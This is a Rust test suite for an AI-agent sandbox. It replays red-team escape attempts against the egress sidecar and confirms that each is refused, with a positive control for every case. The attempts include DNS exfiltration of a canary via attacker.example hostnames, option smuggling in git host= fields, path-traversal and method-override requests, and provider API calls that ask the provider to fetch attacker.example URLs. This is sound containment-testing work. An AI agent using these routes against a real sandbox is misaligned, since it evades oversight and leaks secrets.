//! The escape classes a live red team found (issue 13), one function per class. Every case
//! checks the specific reason of the component that refused, that the attack reached it, and
//! has a positive control on the same path.

use std::time::Duration;

use bb_testkit::{docker_try, wait_for};

use crate::attacks::{curl, expect, expect_blocked, expect_decision};
use crate::run::{Runner, decision_lines, decisions_since};
use crate::util::{exec, stderr, stdout};
use crate::world::{API_TOKEN, PLANTED, PROVIDER_TOKEN, World};

/// Every class's cases, each with its positive control.
pub fn classes(run: &mut Runner, w: &World, _runtime: &str) {
    names(run, w);
    crate::gate::pushes(run, w);
    credentials(run, w);
    provider_relay(run, w);
    smaller_doors(run, w);
    guard(run, w);
    crate::supervise::cases(run, w);
    crate::resources::limits(run, w);
}

// ---- 1: names resolved on the agent's behalf ----

/// A label unique to this run (part of the canary, hex): what a DNS channel would carry.
pub fn leak_label(w: &World, tag: &str) -> String {
    let hex: String = w
        .canary
        .bytes()
        .skip(9)
        .take(8)
        .map(|b| format!("{b:02x}"))
        .collect();
    format!("{hex}-{tag}")
}

/// What the recording resolver received, UDP and TCP, as text.
pub fn resolver_log(w: &World) -> String {
    stdout(&exec(&w.resolver, "root", "cat /tmp/udp /tmp/tcp"))
}

/// A raw `git://` request naming `host` (pkt-line framing: 4 hex digits of length first).
pub fn git_request(service: &str, path: &str, host: &str) -> String {
    let body = format!("{service} {path}\0host={host}\0");
    let line = format!("{:04x}{body}", body.len() + 4);
    let escaped: String = line
        .chars()
        .map(|c| {
            if c == '\0' {
                "\\000".into()
            } else {
                c.to_string()
            }
        })
        .collect();
    format!("printf '{escaped}' | timeout 10 nc -q 3 git-gate 9418")
}

/// Successful SSH logins at the git upstream so far (sshd logs at VERBOSE).
pub fn upstream_logins(w: &World) -> usize {
    std::process::Command::new("docker")
        .args(["logs", &w.git])
        .output()
        .map(|o| {
            String::from_utf8_lossy(&o.stderr)
                .matches("Accepted publickey")
                .count()
        })
        .unwrap_or(0)
}

fn names(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case(
        "1 names the agent chooses (proxy, CONNECT, git:// host=) are never looked up by the sidecar",
        || {
            let label = leak_label(w, "name");
            let plain = curl(a, &format!("http://{label}-plain.attacker.example/x"));
            expect_blocked(&plain, "not in the allowlist")?;
            let tls = exec(
                &a.agent,
                "node",
                &format!("curl -sS -m 5 https://{label}-tls.attacker.example/x"),
            );
            expect(stderr(&tls).contains("response 403"), || {
                format!("CONNECT: {}", stderr(&tls))
            })?;
            let git = exec(
                &a.agent,
                "node",
                &git_request("git-upload-pack", "/shop.git", &format!("{label}-git.attacker.example")),
            );
            expect(stdout(&git).contains("refs/heads/main"), || {
                format!("the gate did not serve the request: {} {}", stdout(&git), stderr(&git))
            })?;
            std::thread::sleep(Duration::from_secs(1));
            let seen = resolver_log(w);
            expect(!seen.contains(&label), || {
                format!("a sidecar looked up an agent's name: {seen:?}")
            })?;
            // Control: a lookup by the sidecar itself reaches the recording resolver.
            let control = format!("{label}-control.attacker.example");
            let _ = exec(&a.sidecar, "root", &format!("getent hosts {control}"));
            wait_for(Duration::from_secs(5), || {
                resolver_log(w).contains(&format!("{label}-control")).then_some(())
            })
            .ok_or_else(|| "control: the sidecar's own lookup never reached the recording resolver".to_string())
        },
    );
    run.case(
        "1 `host=--help` is no option to any helper: the fetch is served from a refreshed mirror",
        || {
            let before = upstream_logins(w);
            let out = exec(
                &a.agent,
                "node",
                &git_request("git-upload-pack", "/shop.git", "--help"),
            );
            expect(stdout(&out).contains("refs/heads/main"), || {
                format!("not served: {} {}", stdout(&out), stderr(&out))
            })?;
            expect(upstream_logins(w) > before, || {
                "the mirror was not refreshed from upstream".into()
            })
        },
    );
}

// ---- 4: where an injected credential may go ----

fn credentials(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case(
        "4 a credential route over plain http: refused, nothing sent",
        || {
            let out = curl(a, "http://api.test/plain-credential");
            expect_blocked(&out, "only https:// is allowed")?;
            expect(!w.upstream_requests().contains("/plain-credential"), || {
                "the upstream saw it".into()
            })
        },
    );
    run.case("4 a credential route on another port: refused", || {
        let out = curl(a, "https://api.test:8443/other-port");
        expect_blocked(&out, "for port 443 only")?;
        expect(!w.upstream_requests().contains("/other-port"), || {
            "the upstream saw it".into()
        })
    });
    run.case("4 TRACE: refused before the upstream", || {
        let out = curl(a, "-X TRACE https://api.test/trace");
        expect_blocked(&out, "echoes the request")?;
        expect(!w.upstream_requests().contains("/trace"), || {
            "the upstream saw it".into()
        })
    });
    run.case(
        "4 a reflecting upstream does not hand the agent the credential",
        || {
            let from = decision_lines(&a.sidecar).len();
            let out = curl(a, "https://api.test/echo-headers");
            let body = stdout(&out);
            expect(body.ends_with(" 200"), || format!("not answered: {body}"))?;
            expect(!body.contains(API_TOKEN), || {
                format!("the agent got the token: {body}")
            })?;
            expect(body.contains("[bot-bottle:"), || format!("no mask: {body}"))?;
            // Control: the upstream did receive the credential.
            let seen = w.upstream_requests();
            expect(seen.contains(&format!("Bearer {API_TOKEN}")), || {
                "the upstream did not receive the credential".into()
            })?;
            let lines = decisions_since(&a.sidecar, from);
            expect(
                lines
                    .iter()
                    .any(|d| d["reason"].as_str().is_some_and(|r| r.contains("masked"))),
                || format!("no decision line says it was masked: {lines:?}"),
            )
        },
    );
    run.case(
        "4 ambiguous requests on a route with `matches`: refused",
        || {
            for (args, reason) in [
                ("--path-as-is 'https://narrow.test/public/..;/admin'", "`;`"),
                (
                    "--path-as-is https://narrow.test/public/%2e%2e/admin",
                    "`..`",
                ),
                ("https://narrow.test/public%2fadmin", "encoded `/`"),
                (
                    "https://narrow.test/public/%252e%252e/admin",
                    "double-encoded",
                ),
                ("'https://narrow.test/public\\admin'", "backslash"),
                ("-X get https://narrow.test/public/lower", "not upper case"),
                (
                    "-H 'X-HTTP-Method-Override: DELETE' https://narrow.test/public/override",
                    "method-override",
                ),
            ] {
                let out = curl(a, args);
                expect_blocked(&out, reason).map_err(|e| format!("{args}: {e}"))?;
            }
            let seen = w.upstream_requests();
            expect(
                !seen.contains("admin") && !seen.contains("/public/lower"),
                || format!("the upstream saw one: {seen}"),
            )?;
            // Control: an unambiguous request on the same route passes.
            let ok = curl(a, "https://narrow.test/public/plain");
            expect(stdout(&ok).ends_with(" 200"), || {
                format!("control: {}", stdout(&ok))
            })
        },
    );
}

// ---- 5: provider APIs as relays ----

/// A POST of `json` to the provider's host, as the agent's CLI would send it.
fn provider_post(w: &World, path: &str, json: &str) -> std::process::Output {
    curl(
        &w.a,
        &format!(
            "-X POST -H 'content-type: application/json' -H 'x-api-key: bot-bottle-placeholder' --data-binary '{json}' https://api.anthropic.com{path}"
        ),
    )
}

fn provider_relay(run: &mut Runner, w: &World) {
    run.case("5 a provider host only serves its CLI's API", || {
        let out = provider_post(w, "/v1/files?relay", "{}");
        expect_blocked(&out, "matches none of the route")?;
        expect(!w.upstream_requests().contains("/v1/files"), || {
            "the upstream saw it".into()
        })
    });
    run.case(
        "5 a request asking the provider to fetch a URL the agent names: refused",
        || {
            for (what, json) in [
                (
                    "mcp",
                    r#"{"model":"m","max_tokens":1,"mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}],"messages":[{"role":"user","content":"hi"}]}"#,
                ),
                (
                    "web-fetch",
                    r#"{"model":"m","max_tokens":1,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":"hi"}]}"#,
                ),
                (
                    "image-url",
                    r#"{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/x.png"}}]}]}"#,
                ),
                (
                    "escaped-key",
                    r#"{"model":"m","max_tokens":1,"mcp\u005fservers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}],"messages":[]}"#,
                ),
            ] {
                let out = provider_post(w, &format!("/v1/messages?case={what}"), json);
                expect_blocked(&out, "fetch a URL itself").map_err(|e| format!("{what}: {e}"))?;
            }
            expect(!w.upstream_requests().contains("case="), || {
                "the upstream saw one".into()
            })?;
            let ok = provider_post(
                w,
                "/v1/messages?case=plain",
                r#"{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hello"}]}"#,
            );
            expect(stdout(&ok).ends_with(" 200"), || {
                format!("control: {} {}", stdout(&ok), stderr(&ok))
            })?;
            let seen = w.upstream_requests();
            expect(seen.contains("case=plain") && !seen.contains(PROVIDER_TOKEN), || {
                format!("control: the upstream saw {seen}")
            })
        },
    );
}

// ---- 7: smaller doors ----

fn smaller_doors(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case("7 no IPv6 in the agent's network namespace", || {
        let out = exec(
            &a.agent,
            "node",
            "wc -l < /proc/net/if_inet6; (nc -6 -l -s ::1 -p 4555 & p=$!; sleep 1; kill $p) 2>&1; nc -l -s 127.0.0.1 -p 4556 & sleep 0.5; nc -z -w 2 127.0.0.1 4556 && echo v4-ok",
        );
        let text = format!("{} {}", stdout(&out), stderr(&out));
        expect(text.trim_start().starts_with('0'), || {
            format!("IPv6 addresses: {text}")
        })?;
        expect(text.contains("Cannot assign requested address"), || {
            format!("::1 could be bound: {text}")
        })?;
        expect(text.contains("v4-ok"), || format!("control (IPv4 loopback): {text}"))
    });
    run.case(
        "7 the sidecar's services do not answer on the egress network",
        || {
            let egress_ip = a.ip_on(&a.sidecar, &a.egress_net);
            let internal_ip = a.ip_on(&a.sidecar, &a.internal_net);
            let probe = |from: &str, ip: &str, port: u16| {
                exec(from, "root", &format!("nc -z -w 2 {ip} {port}"))
                    .status
                    .success()
            };
            for port in [9099, 9418, 53, bb_contract::layout::SUPERVISE_PORT] {
                expect(!probe(&w.upstream, &egress_ip, port), || {
                    format!("port {port} answers on the egress network")
                })?;
            }
            // Controls: the same container reaches a service on that network; the agent
            // reaches the proxy on the internal one.
            expect(probe(&w.upstream, "git.test", 2222), || {
                "control: the fixture reaches nothing on the egress network".into()
            })?;
            expect(probe(&a.agent, &internal_ip, 9099), || {
                "control: the agent cannot reach the proxy".into()
            })
        },
    );
    run.case(
        "7 the decision log holds none of the secrets DLP refused",
        || {
            let lines = decision_lines(&a.sidecar);
            expect(lines.iter().any(|l| l.contains("/leak/")), || {
                "control: no DLP case was logged".into()
            })?;
            let mut values: Vec<String> = PLANTED.iter().map(|(_, _, v)| v.to_string()).collect();
            values.extend([w.canary.clone(), API_TOKEN.into(), PROVIDER_TOKEN.into()]);
            for value in values {
                if let Some(line) = lines.iter().find(|l| l.contains(&value)) {
                    return Err(format!("a secret is in the log: {line}"));
                }
            }
            Ok(())
        },
    );
    run.case(
        "7 a bottle cannot give its agent a route's token (planning error)",
        || {
            w.fixture.bottle(
                "escape-env",
                "extends: escape\nenv:\n  LEAK: \"${BB_ESCAPE_API}\"\n",
            );
            w.fixture
                .agent("escape-env-agent", "bottle: escape-env\n", "Plan only.");
            let out = w
                .fixture
                .spawnable("bb-plan")
                .arg("escape-env-agent")
                .env("BB_ESCAPE_API", API_TOKEN)
                .env("BB_ESCAPE_PROVIDER", PROVIDER_TOKEN)
                .envs(PLANTED.iter().map(|(_, var, value)| (*var, *value)))
                .output()
                .map_err(|e| e.to_string())?;
            let err = String::from_utf8_lossy(&out.stderr).to_string();
            expect(out.status.code() == Some(2), || {
                format!("exit {:?}: {err}", out.status.code())
            })?;
            expect(err.contains("LEAK") && !err.contains(API_TOKEN), || {
                err.clone()
            })
        },
    );
}

// ---- the address guard, end to end ----

fn guard(run: &mut Runner, w: &World) {
    run.case(
        "8 a route name resolving to a private address: refused by the guard before any connection",
        || ssrf_refused(w),
    );
}

/// `ssrf.test` (not `private`) resolves to the upstream's private address.
pub fn ssrf_refused(w: &World) -> Result<(), String> {
    let a = &w.a;
    let from = decision_lines(&a.sidecar).len();
    let out = curl(a, "https://ssrf.test/guard");
    expect(!stdout(&out).ends_with(" 200"), || {
        format!("answered: {}", stdout(&out))
    })?;
    expect_decision(a, from, "ssrf.test", None)?;
    let lines = decisions_since(&a.sidecar, from);
    expect(
        lines
            .iter()
            .any(|d| d["reason"].as_str().is_some_and(|r| r.contains("private"))),
        || format!("not refused by the address guard: {lines:?}"),
    )?;
    expect(!w.upstream_requests().contains("/guard"), || {
        "the upstream saw it".into()
    })
}

/// Rewrites bottle A's routes file with `edit`, puts it into the sidecar through the engine (as
/// `reload` does) and reloads the sidecar.
pub fn edit_routes(w: &World, edit: impl FnOnce(&mut serde_json::Value)) -> Result<(), String> {
    let routes_file = w.a.state_dir.join(bb_contract::state::ROUTES_FILE);
    let text = std::fs::read_to_string(&routes_file).map_err(|e| e.to_string())?;
    let mut routes: serde_json::Value = serde_json::from_str(&text).map_err(|e| e.to_string())?;
    edit(&mut routes);
    let tmp = routes_file.with_extension("json.sabotage");
    std::fs::write(&tmp, routes.to_string()).map_err(|e| e.to_string())?;
    std::fs::rename(&tmp, &routes_file).map_err(|e| e.to_string())?;
    let inside = format!("{}:{}", w.a.sidecar, bb_contract::layout::sidecar::ROUTES);
    docker_try(&["cp", &routes_file.to_string_lossy(), &inside])?;
    docker_try(&["kill", "-s", "HUP", &w.a.sidecar]).map(drop)
}
